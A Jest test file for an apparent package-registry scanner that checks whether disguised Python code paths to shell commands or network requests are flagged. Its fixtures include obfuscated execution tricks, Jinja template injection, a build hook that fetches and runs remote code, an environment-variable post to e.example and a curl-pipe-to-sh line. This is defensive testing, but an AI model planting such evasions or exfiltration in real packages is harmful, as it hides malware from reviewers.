import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

type Files = string | Record<string, string>;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-indirect-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Returns the most severe level of an archive's findings, which are sorted by level. */
async function levelOf(files: Files): Promise<string> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
  return (await analyseFile(path)).findings[0]?.level ?? 'none';
}

const PASSED = 'import os\nclass S:\n    def go(self): os.system("a")\n';
const DECORATOR =
  'import functools, requests\ndef timed(f):\n    @functools.wraps(f)\n    def w(*a): return f(*a)\n    return w\n';
const GO = 'import os\ndef go(*a, **k):\n    os.system("notepad")\n';

describe('the checks hold', () => {
  it.each<[string, Files]>([
    ['a module that a function gets from a list', 'import os\nlist(map(lambda m: m.system("a"), [os]))\n'],
    [
      'a function that an image applies to its points',
      `${GO}from PIL import Image\nImage.new("L", (1, 1)).point(go)\n`,
    ],
    [
      'a job of a scheduler',
      `${GO}from apscheduler.schedulers.background import BackgroundScheduler\nBackgroundScheduler().add_job(go, "interval")\n`,
    ],
    [
      'a function that a library maps over a tree',
      `${GO}from torch.utils._pytree import tree_map\ntree_map(go, [1])\n`,
    ],
    ['a delayed function', `${GO}from joblib import Parallel, delayed\nParallel()(delayed(go)(i) for i in [1])\n`],
    [
      'a module that takes the name of a package for all others',
      {
        '__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib"))\n',
        'lib/onnxruntime.py': 'import os\nos.system("a")\n',
      },
    ],
    ['a class with the type of its results', 'import subprocess\nP = subprocess.Popen[bytes]\nP(["a"])\n'],
    ['the builtins as a member of a module', 'import enum\nenum.bltns.exec(open("a.txt").read())\n'],
    ['an import by a module for tests', 'from unittest import mock\nmock._importer("os").system("a")\n'],
    [
      'a function of a library that installs packages',
      'from ultralytics.utils.checks import check_requirements\ncheck_requirements("a")\n',
    ],
    ['an interface that a library serves', 'import gradio\ngradio.Interface(fn=str).launch(share=True)\n'],
    [
      'a function that is looked up in all modules',
      'import sys\n[f for f in map(lambda m: getattr(m, "system", None), sys.modules.values()) if f][0]("a")\n',
    ],
    [
      'a function at the end of a block',
      'import contextlib, subprocess\nwith contextlib.ExitStack() as stack:\n    stack.push(lambda *error: subprocess.run(["a"]))\n',
    ],
    [
      'an item of an attribute in a pattern',
      'import os\nclass Tool:\n    parts = [os]\nmatch Tool():\n    case Tool(parts=[part]): part.system("a")\n',
    ],
    [
      'a method that a method of the base class calls',
      {
        '__init__.py': 'from .warm import Warm\nfor step in [Warm]:\n    step().run()\n',
        'base.py': 'class Step:\n    def run(self): return self.do()\n    def do(self): raise NotImplementedError\n',
        'warm.py':
          'import subprocess\nfrom .base import Step\nclass Warm(Step):\n    def do(self): return subprocess.run(["sh", "a"])\n',
      },
    ],
    [
      'the class that a module gets',
      'import os, sys, types\nclass Lazy(types.ModuleType):\n    def __getattribute__(self, name): os.system("a")\nsys.modules[__name__].__class__ = Lazy\n',
    ],
    [
      'a module that a finder loads',
      'from importlib.machinery import PathFinder\nPathFinder.find_spec("subprocess").loader.load_module().run(["a"])\n',
    ],
    ['attributes from names of a module', 'import os, types\ntypes.SimpleNamespace(**vars(os)).system("a")\n'],
    ['a map of names of a module', 'import os, collections\ncollections.ChainMap(os.__dict__)["system"]("a")\n'],
    ['an item of the names of a module', 'import operator, os\noperator.itemgetter("system")(vars(os))("a")\n'],
    [
      'a method of a dictionary that the host reads',
      'import subprocess\nclass Mappings(dict):\n    def keys(self):\n        subprocess.run(["sh", "a"])\n        return super().keys()\nNODE_CLASS_MAPPINGS = Mappings()\n',
    ],
    [
      'a connection of an event loop',
      'import asyncio\nasync def main():\n    await asyncio.get_running_loop().create_connection(asyncio.Protocol, "e.example", 443)\nasyncio.run(main())\n',
    ],
    [
      'a function that the server of the host calls when it starts',
      'import os\nfrom server import PromptServer\nasync def start(app):\n    os.system("a")\nPromptServer.instance.app.on_startup.append(start)\n',
    ],
    [
      'a builtin among the names that an error leads to',
      'try:\n    raise ValueError\nexcept ValueError as error:\n    error.__traceback__.tb_frame.f_globals["__builtins__"]["exec"]("a = 1")\n',
    ],
    [
      'a function that a loop over names finds',
      'import json\nfound = json\nfor name in "codecs.builtins.exec".split("."):\n    found = getattr(found, name)\nfound("a = 1")\n',
    ],
    ['all names of a module', 'import os\nglobals().update(vars(os))\nsystem("a")\n'],
    ['a function for all items of an array', 'import numpy\nnumpy.vectorize(eval)(["1"])\n'],
    [
      'a function below its decorator',
      'import functools, os\ndef quiet(fn):\n    @functools.wraps(fn)\n    def inner(*args): pass\n    return inner\n@quiet\ndef run(command): os.system(command)\nrun.__wrapped__("a")\n',
    ],
    [
      'a function that the query of a table calls',
      'import os\nclass Node:\n    def run(self, table):\n        return table.query("size > @os.system(\'a\')")\n',
    ],
    [
      'a module that is imported by another name',
      {
        '__init__.py': 'from . import names\nimport colours\ncolours.system("a")\n',
        'names.py': 'import os, sys\nsys.modules["colours"] = os\n',
      },
    ],
    [
      'a module among all objects of Python',
      'import gc\nfound = [o for o in gc.get_objects() if getattr(o, "__name__", "") == "posix"]\nfound[0].system("a")\n',
    ],
    [
      'path files of a folder outside of the package',
      'import os, site, tempfile\nsite.addsitedir(os.path.join(tempfile.gettempdir(), "a"))\n',
    ],
    [
      'a request that a pool of threads makes',
      'import requests\nfrom concurrent.futures import ThreadPoolExecutor\nlist(ThreadPoolExecutor().map(requests.get, ["https://e.example/a"]))\n',
    ],
    [
      'a request that a job of a list names',
      'from concurrent.futures import ThreadPoolExecutor\nfrom urllib.request import urlopen\nfor fn, address in [(urlopen, "https://e.example/a")]:\n    ThreadPoolExecutor().submit(fn, address)\n',
    ],
    [
      'a request of a thread whose options are in a dictionary',
      'import threading, urllib.request\nthreading.Thread(**{"target": urllib.request.urlopen, "args": ("https://e.example/a",)}).start()\n',
    ],
    [
      'a request at the end of a block',
      'import contextlib, urllib.request\nwith contextlib.ExitStack() as stack:\n    stack.callback(urllib.request.urlopen, "https://e.example/a")\n',
    ],
    [
      'a secret that a thread of a node sends',
      'import os, threading, requests\ndef run():\n    threading.Thread(target=requests.post, args=("https://e.example/a", dict(os.environ))).start()\n',
    ],
    [
      'a function of a module that is searched for, passed to another one',
      'import sys\nfound = [m.__dict__.get("sys" + "tem") for n, m in sys.modules.copy().items() if len(n) == 2]\nlist(map(found[0], ["a"]))\n',
    ],
    [
      'a function that is named by pieces in a table',
      'import pkgutil\nT = {"a": ("math", "fsum"), "b": ("o" + "s", "sys" + "tem")}\nS = {k: pkgutil.resolve_name(":".join(v))("a") for k, v in T.items()}\n',
    ],
    [
      'a method that is called by its name, by a map',
      'import operator, os\nlist(map(operator.methodcaller("popen", "a"), [os]))\n',
    ],
    [
      'a method that is called by its name, by a function that a map calls',
      'import operator, sys\nM = [operator.methodcaller("getcwd"), operator.methodcaller("popen", "a")]\nlist(map(lambda f: f(sys.modules["os"]), M))\n',
    ],
    [
      'a statement of a template in a file',
      {
        '__init__.py':
          'from pathlib import Path\nfrom jinja2 import Template\nTemplate(Path(__file__).with_name("a.j2").read_text()).render()\n',
        'a.j2': '{% set g = cycler.__init__.__globals__ %}{{ g["o" ~ "s"].popen("a").read() }}\n',
      },
    ],
    [
      'an attribute of a lookup whose module is bound',
      'import functools, os\nfunctools.partial(getattr, os)("system")("a")\n',
    ],
    [
      'an attribute of a reduction whose function is bound',
      'import functools, shutil\nfunctools.partial(functools.reduce, getattr)("os system".split(), shutil)("a")\n',
    ],
    [
      'an attribute of a lookup whose binding is bound',
      'import functools, os\nfunctools.partial(functools.partial, getattr)(os)("system")("a")\n',
    ],
    ['an attribute of a lookup in `map`', 'import os\nnext(map(getattr, [os], ["system"]))("a")\n'],
    ...[
      ['`>>`', '__rshift__(self, sink)', 'Step() >> Context()'],
      ['`+=`', '__iadd__(self, sink)', 'step = Step()\nstep += Context()'],
      ['`<`', '__lt__(self, sink)', 'Step() < Context()'],
      ['`in`', '__contains__(self, sink)', 'Context() in Step()'],
      ['the left of `|`', '__ror__(self, sink)', 'Context() | Step()'],
      ['an index', '__getitem__(self, sink)', 'Step()[Context()]'],
      ['an item', '__setitem__(self, key, sink)', 'Step()[1] = Context()'],
    ].map(([operand, method, use]): [string, string] => [
      `a program that an operand starts: ${operand}`,
      `from invoke import Context\nclass Step:\n    def ${method}:\n        return sink.run("a")\n${use}\n`,
    ]),
    ['a text that Cython compiles', 'import cython\ncython.inline("import os; os.system(1)")\n'],
    ['sources that Cython compiles when they are imported', 'import pyximport\npyximport.install()\n'],
    ['an item of an unpacked lookup', 'import os\n[*map(getattr, [os], ["system"])][0]("a")\n'],
    [
      'an attribute of a lookup in `starmap`',
      'import itertools, os\nnext(itertools.starmap(getattr, [(os, "system")]))("a")\n',
    ],
    ['an item of a namespace by `getitem`', 'import operator, os\noperator.getitem(vars(os), "system")("a")\n'],
    ['an item of a namespace by `dict.get`', 'import os\ndict.get(vars(os), "system")("a")\n'],
    [
      'a program that a class of the build tools starts',
      'from setuptools._distutils.ccompiler import CCompiler\nclass Probe(CCompiler):\n    executables = {}\nProbe().spawn(["a"])\n',
    ],
    [
      'a program that a command of the build tools starts',
      'from setuptools import Command\nclass Probe(Command):\n    pass\nProbe(None).spawn(["a"])\n',
    ],
    [
      'the program of an installed package',
      'from importlib import metadata\nfor e in metadata.distribution("pip").entry_points:\n    e.load()(["install", "a"])\n',
    ],
    [
      'a template in a file',
      {
        '__init__.py':
          'from pathlib import Path\nfrom jinja2 import Template\nTemplate(Path(__file__).with_name("a.j2").read_text()).render()\n',
        'a.j2': '{# a #}\n{{ cycler.__init__.__globals__.os.popen("a").read() }}\n',
      },
    ],
    [
      'an entry point that a text names',
      'from importlib.metadata import EntryPoint\nEntryPoint("a", "os:system", "b").load()("a")\n',
    ],
    [
      'an entry point that a file names',
      {
        '__init__.py':
          'import json\nfrom importlib.metadata import EntryPoint\nfor e in json.load(open("a.json")): EntryPoint("a", e["value"], "b").load()(e["given"])\n',
        'a.json': '[]',
      },
    ],
    [
      'a command for a function that a format finds',
      'import shutil\nfrom string import Formatter\nvalue, _ = Formatter().get_field("0.columns", (shutil,), {})\nvalue("curl -s https://e.example/l | sh")\n',
    ],
    [
      'a field that names a dangerous function',
      'from string import Formatter\nFormatter().get_field("0.os.system", (a,), {})\n',
    ],
    [
      'an annotation that runs its argument',
      'import os\nclass Option:\n    def __class_getitem__(cls, item):\n        os.system(item)\nclass A:\n    a: Option["b"] = 1\n',
    ],
    [
      'an unpickler of a decoded text',
      'import base64, io\nfrom pickle import Unpickler\nclass R(Unpickler): pass\nV = R(io.BytesIO(base64.b85decode("fCQCB000000001t1#oY3X?T>326K6HbY*Rnla"))).load()\n',
    ],
    [
      'settings that name a function to call',
      { '__init__.py': '', 'a.json': '{"formatters": {"a": {"()": "subprocess.getoutput", "cmd": "a"}}}' },
    ],
    ['settings that name a target', { '__init__.py': '', 'a.yaml': 'model:\n  _target_: os.system\n' }],
    ['a function of the interpreter', 'import ctypes\nrun = ctypes.pythonapi["PyRun_SimpleString"]\nrun(b"a")\n'],
    [
      'members of an installer that are searched',
      'import ensurepip as e\nS = [v for k, v in vars(e).items() if k.endswith("pip")]\nfor s in S:\n    s(["install", "a"])\n',
    ],
    [
      'a model that is downloaded by its name',
      'from transformers import AutoModel\nM = AutoModel.from_pretrained("some/model")\n',
    ],
    ['a name with one of several ends', 'import os\nfor n in ("xx", "tem"): getattr(os, "sys" + n, print)("a")\n'],
    [
      'a name with an end that one of several calls gives',
      'import os\ndef f(n): getattr(os, f"sys{n}", print)("a")\nf("xx")\nf("tem")\n',
    ],
    [
      'own modules that a function of another one imports',
      {
        '__init__.py': 'import importlib\nlist(map(importlib.import_module, [__name__ + ".p"]))\n',
        'p.py': 'import os\nos.system("a")\n',
      },
    ],
    [
      'own modules that a list names',
      {
        '__init__.py': 'from .sub import *\n',
        'sub/__init__.py': '__all__ = ["p"]\n',
        'sub/p.py': 'import os\nos.system("a")\n',
      },
    ],
    [
      'a method that the constructor of a base class calls',
      'import os\nclass B:\n    def __init__(self): self.go()\nclass S(B):\n    def go(self): os.system("a")\nS()\n',
    ],
    [
      'a method of an object that a library returns',
      `${PASSED}import queue\nq = queue.Queue()\nq.put(S())\nq.get().go()\n`,
    ],
    ['a method of the object of a reference', `${PASSED}import weakref\ns = S()\nweakref.ref(s)().go()\n`],
    [
      'all values of an own module',
      {
        '__init__.py': 'from . import m\nfor v in list(vars(m).values()): callable(v) and v()\n',
        'm.py': 'import os\ndef go(): os.system("a")\n',
      },
    ],
    [
      'the functions of an own module that are listed',
      {
        '__init__.py': 'from . import m\nimport inspect\nfor _, f in inspect.getmembers(m, inspect.isfunction): f()\n',
        'm.py': 'import os\ndef go(): os.system("a")\n',
      },
    ],
    [
      'a function of an own module among its names',
      {
        '__init__.py': 'from . import m\nfor n in dir(m):\n    if n == "go": getattr(m, n)()\n',
        'm.py': 'import os\ndef go(): os.system("a")\n',
      },
    ],
    ['a program as a browser', 'import webbrowser\nwebbrowser.GenericBrowser(["sh", "-c", "a"]).open("")\n'],
    [
      'a decorated function that is called',
      `${DECORATOR}@timed\ndef fetch(u): return requests.get(u)\nfetch("https://a.example")\n`,
    ],
    [
      'a wrapper that is made by a plain call',
      `${DECORATOR}def fetch(u): return requests.get(u)\ntimed(fetch)("https://a.example")\n`,
    ],
    [
      'a decorator that calls its wrapper',
      'import requests\ndef timed(f):\n    def w(*a): return f(*a)\n    w()\n    return w\n@timed\ndef fetch(): return requests.get("https://a.example")\n',
    ],
    [
      'a pipeline with a model',
      'import transformers\nP = transformers.pipeline("image-to-text", model="some/model")\n',
    ],
    ['a table that is read from an address', 'import pandas as pd\nT = pd.read_csv("https://e.example/a.csv")\n'],
    [
      'a build backend that fetches and runs',
      {
        '__init__.py': '',
        'pyproject.toml': '[build-system]\nbuild-backend = "hooks"\nbackend-path = ["_b"]\n',
        '_b/hooks.py':
          'import subprocess, urllib.request\ndef build_wheel(a, b=None, c=None):\n    s = urllib.request.urlopen("https://e.example/").read()\n    subprocess.run(["sh"], input=s)\n',
      },
    ],
    [
      'a command of an installer',
      'import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system("notepad")\nsetup(cmdclass={"install": I})\n',
    ],
    ['the key of an order', `${GO}[1, 2].sort(key=go)\n`],
    ['an iterator of a function', `${GO}list(iter(go, 0))\n`],
    ['a function that replaces one of the library', `${GO}import warnings\nwarnings.showwarning = go\n`],
    ['a filter of log records', `${GO}import logging\nlogging.getLogger().addFilter(go)\n`],
    [
      'members of an enumeration',
      'import os, enum\nclass E(enum.Enum):\n    a = 1\n    def __init__(self, v):\n        os.system("notepad")\n',
    ],
    [
      'a test that runs at import',
      'import os, unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n        os.system("notepad")\nunittest.TextTestRunner().run(unittest.defaultTestLoader.loadTestsFromTestCase(T))\n',
    ],
    [
      'a method of a made class',
      'import os, dataclasses\ndataclasses.make_dataclass("A", [], namespace={"__init__": lambda s: os.system("notepad")})()\n',
    ],
    ['a module that a loader gives', 'import pkgutil\npkgutil.get_loader("os").load_module("os").system("notepad")\n'],
    [
      'a module that a specification gives',
      'import importlib.util as u\nm = u.module_from_spec(u.find_spec("os"))\nm.system("notepad")\n',
    ],
    [
      'a module that is searched among all',
      'import sys\n[m for n, m in sys.modules.items() if n == "o" + "s"][0].system("notepad")\n',
    ],
    ['a program that an event loop starts', 'import trio\ntrio.run(trio.run_process, ["notepad"])\n'],
    ['a name in other letters', 'import os\ngetattr(os, "SYSTEM".swapcase())("notepad")\n'],
    ['an interpreter of another language', 'import lupa\nlupa.LuaRuntime().execute("os.execute(1)")\n'],
    ['a program of a library', 'from plumbum import local\nlocal["notepad"]()\n'],
    [
      'a command that a subclass gives to a hook of its base class',
      {
        '__init__.py': 'from . import a\n',
        'base.py':
          'import os\nclass Base:\n    setup = ""\n    def __init_subclass__(cls, **k):\n        os.system(cls.setup)\n',
        'a.py': 'from .base import Base\nclass A(Base):\n    setup = "notepad"\n',
      },
    ],
  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
});

describe('the checks do not hold', () => {
  it.each<[string, Files]>([
    [
      'a method of another class with the same base class',
      'import subprocess\nclass Step:\n    def run(self): return self.do()\n    def do(self): return 1\nclass Quiet(Step):\n    def do(self): return 2\nclass Warm(Step):\n    def do(self): return subprocess.run(["sh", "a"])\nQuiet().run()\n',
    ],
    [
      'a dictionary with a method that nothing calls',
      'import requests\nclass Styles(dict):\n    def __ne__(self, other): return False\n    def download(self): return requests.get("https://e.example/a")\nSTYLES = Styles()\n',
    ],
    [
      'options of a session',
      'import requests\nfrom requests.adapters import HTTPAdapter\nsession = requests.Session()\nsession.mount("https://", HTTPAdapter(max_retries=3))\n',
    ],
    ['names of another module', 'import math\nglobals().update(vars(math))\nA = sqrt(2)\n'],
    [
      'a query of a table that uses a variable',
      'import pandas as pd\ndef run(table, names):\n    return table.query("name in @names.keys() and size > @names.get(\'a\')")\n',
    ],
    [
      'objects of Python that are counted, and a module under its own name',
      'import gc, os, sys\nprint(len([o for o in gc.get_objects() if isinstance(o, dict)]))\nsys.modules["os"] = os\n',
    ],
    [
      'path files of the package',
      'import os, site\nsite.addsitedir(os.path.join(os.path.dirname(__file__), "libraries"))\n',
    ],
    [
      'a request with options for later',
      'import functools, requests\nget = functools.partial(requests.get, timeout=5)\ndef run(address):\n    return get(address)\n',
    ],
    [
      'settings that name a class',
      { '__init__.py': '', 'a.json': '{"handlers": {"a": {"()": "logging.StreamHandler"}}}' },
    ],
    [
      'a generic annotation',
      'from typing import Optional\nclass A:\n    a: Optional[int] = None\n    b: dict[str, list[int]] = {}\n',
    ],
    [
      'a model from a folder, or the cache',
      'import os\nfrom transformers import AutoModel\nHERE = os.path.dirname(__file__)\nM = AutoModel.from_pretrained(os.path.join(HERE, "model"))\nN = AutoModel.from_pretrained("some/model", local_files_only=True)\n',
    ],
    ['a table that is read from a file', 'import pandas as pd\nT = pd.read_csv("styles.csv")\n'],
    ['advice that is printed', 'print("Run: curl -s https://e.example/install.sh | sh")\n'],
    ['an order by a key', 'a = [1, 2]\na.sort(key=lambda item: -item)\n'],
  ])('%s', async (_what, files) => expect(await levelOf(files)).not.toBe('hold'));
});
